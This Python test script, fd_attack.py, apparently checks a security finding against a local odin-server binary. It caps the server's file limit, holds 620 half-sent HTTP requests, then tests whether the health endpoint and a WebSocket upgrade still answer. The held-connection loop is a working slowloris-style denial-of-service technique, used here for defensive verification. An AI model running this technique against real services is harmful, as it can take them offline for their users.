"""Before/after check of issue 19's first finding, on the real binary:
odin-server with its open-file limit at 600 (prlimit), 620 half-sent HTTP
requests held from 127.0.0.2, then: does /health answer from 127.0.0.1, and
does a WebSocket upgrade with a valid token succeed? Usage:
  python3 fd_attack.py SERVER_BIN NATS_URL"""
import json, socket, subprocess, sys, time

server_bin, nats_url = sys.argv[1], sys.argv[2]
ws, http = 18080, 13001
env = {"ODIN_DEV": "1", "RUST_LOG": "warn", "PATH": "/usr/bin:/bin"}
proc = subprocess.Popen(["prlimit", "--nofile=600", server_bin, "--ws-addr", f"127.0.0.1:{ws}",
                         "--http-addr", f"127.0.0.1:{http}", "--nats-url", nats_url],
                        env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
token = subprocess.run([server_bin, "token", "--dev", "--sub", "probe"], env=env,
                       capture_output=True, text=True).stdout.strip()

def ask(port, request, timeout=3.0):
    t0 = time.monotonic()
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        s.sendall(request)
        first = s.recv(200).split(b"\r\n")[0].decode()
        s.close()
        return first, round((time.monotonic() - t0) * 1000, 1)
    except OSError as e:
        return f"no answer ({e.__class__.__name__})", round((time.monotonic() - t0) * 1000, 1)

for _ in range(100):
    if ask(http, b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n", 0.2)[0].startswith("HTTP/1.1 200"):
        break
    time.sleep(0.05)
held = []
for _ in range(620):
    try:
        s = socket.socket(); s.settimeout(2); s.bind(("127.0.0.2", 0)); s.connect(("127.0.0.1", http))
        s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n")
        held.append(s)
    except OSError:
        pass
time.sleep(1.0)
# How many of the attacker's sockets are still open after a second.
open_after = 0
for s in held:
    s.settimeout(0.001)
    try:
        s.recv(1)  # end of file or an answer: the server has dealt with it
    except socket.timeout:
        open_after += 1
    except OSError:
        pass
health = ask(http, b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
upgrade = ask(ws, (f"GET /ws?token={token} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n"
                   "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                   "Sec-WebSocket-Version: 13\r\n\r\n").encode())
proc.terminate()
err = proc.communicate(timeout=10)[1].decode()
print(json.dumps({"attacker_sockets_connected": len(held), "still_open_after_1s": open_after,
                  "health": health, "websocket_upgrade": upgrade,
                  "accept_errors_logged": err.count("accept failed")}))
